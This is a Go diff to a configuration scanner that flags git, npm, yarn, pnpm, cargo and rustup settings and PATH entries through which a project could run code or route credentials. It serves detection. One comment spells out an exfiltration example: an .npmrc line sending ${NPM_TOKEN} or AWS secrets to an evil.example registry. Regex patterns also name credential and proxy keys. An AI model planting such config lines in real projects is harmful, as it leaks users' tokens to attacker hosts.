@@ -46,7 +46,7 @@ const (
 
 // ConfigPrograms are the programs ConfigFindings knows the configuration
 // of.
-var ConfigPrograms = map[string]bool{"git": true, "yarn": true, "npm": true, "pnpm": true}
+var ConfigPrograms = map[string]bool{"git": true, "yarn": true, "npm": true, "pnpm": true, "cargo": true, "rustc": true}
 
 // ConfigFindings reports what program, started in the clean absolute
 // directory dir, reads from its configuration that can run code, write
@@ -60,24 +60,43 @@ func ConfigFindings(program, dir, home string) []ConfigFinding {
 // ConfigFindingsWith is ConfigFindings asking the walk up to git's
 // repository through probe (nil: the file system each time).
 func ConfigFindingsWith(probe *DirProbe, program, dir, home string) []ConfigFinding {
-	r := &configReader{home: normHome(home), probe: probe}
+	return ConfigFindingsCall(probe, program, dir, "", home)
+}
+
+// ConfigFindingsCall is ConfigFindingsWith for a call made in the clean
+// absolute directory cwd ("": none), whose tree is the project too when
+// PATH is looked at (`cd src && pip list` run where .venv/bin is). dir ""
+// is a directory not known statically: only PATH is looked at.
+func ConfigFindingsCall(probe *DirProbe, program, dir, cwd, home string) []ConfigFinding {
+	r := &configReader{home: normHome(home), probe: probe, cwd: cwd}
+	r.pathProgram(program, dir)
+	if dir == "" {
+		return r.out
+	}
 	switch program {
 	case "git":
 		r.git(dir)
 	case "yarn":
 		r.packageManager(dir, "yarn")
 		r.yarn(dir)
+		r.npmrc(dir, "yarn") // Yarn 1 reads .npmrc too (registry, auth, proxy)
 	case "npm":
 		r.npmrc(dir, "npm")
 	case "pnpm":
 		r.packageManager(dir, "pnpm")
 		r.npmrc(dir, "pnpm")
 		r.pnpm(dir)
+	case "cargo":
+		r.rustToolchain(dir)
+		r.cargoConfig(dir)
+	case "rustc":
+		r.rustToolchain(dir)
 	}
 	return r.out
 }
 
 type configReader struct {
+	cwd   string // the call's directory, for PATH
 	home  string
 	files int
 	out   []ConfigFinding
@@ -426,6 +445,18 @@ func GitCodeKey(e GitConfigEntry) string {
 		if name == "program" || name == "defaultkeycommand" {
 			return "names a program git log --show-signature runs"
 		}
+	case "http":
+		// git ls-remote and git remote show are network reads: a proxy
+		// or an unverified TLS connection the project names carries the
+		// user's own credentials (the credential helper answers for the
+		// remote's host); cookie files are read and written anywhere.
+		switch name {
+		case "proxy", "sslverify", "sslcainfo", "sslcapath", "sslcert", "sslkey", "sslbackend", "sslcipherlist",
+			"proxysslcert", "proxysslkey", "proxysslcainfo", "curloptresolve", "pinnedpubkey":
+			return "routes or unverifies the connection that carries the user's credentials"
+		case "cookiefile", "savecookies":
+			return "makes git read and write a cookie file elsewhere"
+		}
 	case "credential":
 		if name == "helper" {
 			return "names a credential helper program"
@@ -462,7 +493,12 @@ func GitCodeKey(e GitConfigEntry) string {
 
 var (
 	yarnPathWord = regexp.MustCompile(`(?i)yarn-?path|plugins`)
-	pnpmWord     = regexp.MustCompile(`(?i)pnpm-?file|script-?shell|node-?options|npm-?path|config-?dependencies|user-?config|global-?config`)
+	// Yarn 2+'s httpProxy, httpsProxy, enableStrictSsl, caFilePath,
+	// httpsCaFilePath, httpsCertFilePath, httpsKeyFilePath and
+	// networkSettings (which holds them per host); Yarn 1's proxy,
+	// https-proxy, strict-ssl, cafile, ca.
+	yarnNetWord = regexp.MustCompile(`(?i)proxy|strict-?ssl|ca-?file|\bca\b|cert-?file|key-?file|network-?settings`)
+	pnpmWord    = regexp.MustCompile(`(?i)pnpm-?file|script-?shell|node-?options|npm-?path|config-?dependencies|user-?config|global-?config`)
 )
 
 // yarn reads .yarnrc.yml (Yarn 2+: yarnPath starts another yarn, plugins
@@ -483,6 +519,10 @@ func (r *configReader) yarn(dir string) {
 			for i, line := range strings.Split(string(data), "\n") {
 				if m := yarnPathWord.FindString(line); m != "" {
 					r.add(p, i+1, m, "makes yarn run code from the project (another yarn, or plugins)")
+				} else if m := yarnNetWord.FindString(line); m != "" {
+					r.add(p, i+1, m, "routes or unverifies the connection that carries the user's registry credentials")
+				} else if strings.Contains(line, "${") {
+					r.add(p, i+1, "", npmrcEnvReason)
 				} else if strings.Contains(line, `\`) && strings.Contains(line, `"`) {
 					r.add(p, i+1, "", "a quoted escape may spell a key permopa looks for")
 				}
@@ -517,13 +557,32 @@ func (r *configReader) npmrc(dir, program string) {
 			norm := strings.ReplaceAll(strings.ToLower(strings.Trim(key, `"'`)), "_", "-")
 			if reason := npmrcKey(norm); reason != "" {
 				r.add(p, i+1, key, reason)
+			} else if strings.Contains(line, "${") && !npmDefaultRegistryKey(norm) {
+				r.add(p, i+1, key, npmrcEnvReason)
 			}
 		}
 	}
 }
 
+// npmrcEnvReason: npm (and yarn) replace ${NAME} in any rc value with
+// the environment's NAME, and send auth values, the user agent and
+// headers with their requests: a project file that names its own registry
+// (`//evil.example/:_authToken=${NPM_TOKEN}`, `@x:registry=` plus a
+// `user-agent=${AWS_SECRET_ACCESS_KEY}`) ships the variable to that host.
+const npmrcEnvReason = "expands an environment variable, which the package manager may send to a registry the project names"
+
+// npmDefaultRegistryKey is a key scoped to the public registries by its
+// nerf dart (`//registry.npmjs.org/:_authToken`): npm sends its value to
+// that host only, so `${NPM_TOKEN}` there, the common CI setup, reaches
+// no one else.
+func npmDefaultRegistryKey(k string) bool {
+	return strings.HasPrefix(k, "//registry.npmjs.org/:") || strings.HasPrefix(k, "//registry.yarnpkg.com/:")
+}
+
 func npmrcKey(k string) string {
 	switch k {
+	case "proxy", "https-proxy", "http-proxy", "strict-ssl", "ca", "cert", "key", "local-address":
+		return "routes or unverifies the connection that carries the user's registry credentials"
 	case "userconfig", "globalconfig":
 		return "makes " + "npm read another file as configuration (and print its lines)"
 	case "logs-dir", "cache", "cache-dir", "store-dir", "prefix", "global-dir", "global-bin-dir", "state-dir", "cafile":
@@ -606,4 +665,213 @@ func lineOf(data []byte, word string) int {
 		return 0
 	}
 	return bytes.Count(data[:i], []byte("\n")) + 1
+}
+
+// --- rustup, cargo ---
+
+// rustToolchain reads the toolchain file rustup's proxies (cargo, rustc,
+// installed by rustup as links to itself) take from the nearest directory
+// up from dir that has one: rust-toolchain.toml, or the older
+// rust-toolchain. A toolchain given by path runs that directory's
+// programs (`path = "./tc"` made `cargo --version` run the project's
+// tc/bin/cargo); a channel rustup has not installed, or components and
+// targets, make it download and install them. A distribution's cargo
+// ignores the file; permopa cannot tell which one runs, so it reads it.
+func (r *configReader) rustToolchain(dir string) {
+	for _, x := range ancestors(dir) {
+		if x == r.home {
+			return // the user's own override
+		}
+		found := false // rustup warns when both are there, and takes one
+		for _, name := range []string{"rust-toolchain", "rust-toolchain.toml"} {
+			p := path.Join(x, name)
+			data, ok := r.read(p)
+			if !ok {
+				continue
+			}
+			found = true
+			text := strings.TrimSpace(string(data))
+			if name == "rust-toolchain" && !strings.Contains(text, "[") {
+				// The older form: one toolchain name.
+				r.rustChannel(p, 1, text)
+				continue
+			}
+			for i, line := range strings.Split(string(data), "\n") {
+				key, value, found := strings.Cut(line, "=")
+				key = strings.Trim(strings.TrimSpace(key), `"'`)
+				switch {
+				case !found:
+					if t := strings.TrimSpace(line); t != "" && t[0] != '#' && t != "[toolchain]" {
+						r.add(p, i+1, "", "is not a line rustup's toolchain file holds")
+					}
+				case key == "channel":
+					r.rustChannel(p, i+1, strings.Trim(strings.TrimSpace(value), `"'`))
+				case key == "profile":
+				default:
+					r.add(p, i+1, key, rustToolchainKeyReason(key))
+				}
+			}
+		}
+		if found {
+			return
+		}
+	}
+}
+
+func rustToolchainKeyReason(key string) string {
+	switch key {
+	case "path":
+		return "names a toolchain directory whose programs rustup runs"
+	case "components", "targets":
+		return "makes rustup download and install what is missing"
+	}
+	return "is a key permopa does not model"
+}
+
+// rustChannel reports a channel rustup would download and install, or
+// one that is a path.
+func (r *configReader) rustChannel(p string, line int, channel string) {
+	if channel == "" || strings.ContainsAny(channel, "/\\") || strings.HasPrefix(channel, ".") {
+		r.add(p, line, channel, "names a toolchain directory whose programs rustup runs")
+		return
+	}
+	home := os.Getenv("RUSTUP_HOME")
+	if home == "" {
+		home = path.Join(r.home, ".rustup")
+	}
+	entries, _ := os.ReadDir(path.Join(home, "toolchains"))
+	for _, e := range entries {
+		if n := e.Name(); n == channel || strings.HasPrefix(n, channel+"-") {
+			return
+		}
+	}
+	r.add(p, line, channel, "names a toolchain rustup has not installed, which it downloads and installs")
+}
+
+// cargoKeyWord are the keys of cargo's configuration that run programs
+// (credential providers run on a registry that asks for a token: a
+// planted provider ran under `cargo search`), send the user's tokens or
+// connections elsewhere (registries, source replacement, proxy and TLS
+// settings), or read more files (include).
+var cargoKeyWord = regexp.MustCompile(`(?i)credential|token|registr|replace-with|index|proxy|cainfo|ssl|check-revoke|git-fetch-with-cli|include|\[source|\[alias|\[net|\[http`)
+
+// cargoConfig reads .cargo/config.toml and .cargo/config from dir up to
+// /, as cargo does, but for the home directory's, which is the user's own
+// ($CARGO_HOME). The files are scanned as text for the keys of
+// cargoKeyWord; a quoted escape on a line counts too.
+func (r *configReader) cargoConfig(dir string) {
+	for _, x := range ancestors(dir) {
+		if x == r.home {
+			continue
+		}
+		for _, name := range []string{".cargo/config.toml", ".cargo/config"} {
+			p := path.Join(x, name)
+			data, ok := r.read(p)
+			if !ok {
+				continue
+			}
+			for i, line := range strings.Split(string(data), "\n") {
+				if m := cargoKeyWord.FindString(line); m != "" {
+					r.add(p, i+1, m, "makes cargo run a program, send the user's tokens or connections elsewhere, or read other files")
+				} else if strings.Contains(line, `\`) && strings.Contains(line, `"`) {
+					r.add(p, i+1, "", "a quoted escape may spell a key permopa looks for")
+				}
+			}
+		}
+	}
+}
+
+// --- PATH ---
+
+// pathEnv is the PATH programs are looked up on: the deciding process's,
+// which for a hook is the host's.
+var pathEnv = func() string { return os.Getenv("PATH") }
+
+// pathProgram reports the file PATH finds for program (a name without a
+// slash) when the project chose it: PATH finds it in a directory inside
+// dir or the work tree of dir's repository (an activated virtual
+// environment's .venv/bin, a ./bin: `pip --version` ran the project's
+// .pth files), or PATH has a relative or empty entry (dir "": not known
+// statically, so any relative entry). Only entries that can be inside
+// the project are probed: a PATH of system and home directories costs no
+// system call.
+func (r *configReader) pathProgram(program, dir string) {
+	entries := strings.Split(pathEnv(), ":")
+	inside := make([]bool, len(entries))
+	var zone []string
+	any := false
+	for i, e := range entries {
+		if e == "" || !strings.HasPrefix(e, "/") {
+			if dir == "" {
+				r.add("PATH", 0, "", "has the relative entry \""+e+"\": which "+program+" runs depends on the directory, not known statically")
+				return
+			}
+			inside[i], any = true, true
+			continue
+		}
+		if dir != "" && sharesAncestor(path.Clean(e), dir) || r.cwd != "" && sharesAncestor(path.Clean(e), r.cwd) {
+			if zone == nil {
+				zone = r.projectZone(dir)
+			}
+			for _, z := range zone {
+				if within(path.Clean(e), z) {
+					inside[i], any = true, true
+				}
+			}
+		}
+	}
+	if !any {
+		return
+	}
+	for i, e := range entries {
+		full := e
+		if !strings.HasPrefix(e, "/") {
+			full = path.Join(dir, e)
+		}
+		f := path.Join(full, program)
+		fi, err := os.Stat(f)
+		switch {
+		case err == nil && fi.Mode().IsRegular() && fi.Mode()&0o111 != 0:
+			if inside[i] {
+				r.add(f, 0, "", "PATH finds this "+program+" first, inside the project (PATH entry \""+e+"\"): the project chose the program")
+			}
+			return
+		case err != nil && !errors.Is(err, os.ErrNotExist) && !errors.Is(err, syscall.ENOTDIR) && inside[i]:
+			r.add(f, 0, "", "cannot be looked up ("+err.Error()+"): PATH may find "+program+" inside the project")
+			return
+		}
+	}
+}
+
+// projectZone is dir, the call's directory and the work trees of their
+// repositories, unless one is the home directory or above it (a
+// repository of the home's dotfiles).
+func (r *configReader) projectZone(dir string) []string {
+	var zone []string
+	for _, d := range []string{dir, r.cwd} {
+		if d != "" {
+			zone = append(zone, d)
+		}
+	}
+	for _, d := range zone {
+		if _, _, top, ok := gitRepo(d, r.probe); ok && top != "" && top != d && !within(r.home, top) {
+			zone = append(zone, top)
+		}
+	}
+	return zone
+}
+
+// sharesAncestor says whether a and b have a common ancestor other than /.
+func sharesAncestor(a, b string) bool {
+	i := strings.IndexByte(a[1:], '/')
+	first := a
+	if i >= 0 {
+		first = a[:i+1]
+	}
+	return first != "/" && within(b, first)
+}
+
+// within says whether p is dir or below it (clean absolute paths).
+func within(p, dir string) bool {
+	return p == dir || dir == "/" || strings.HasPrefix(p, dir+"/")
 }
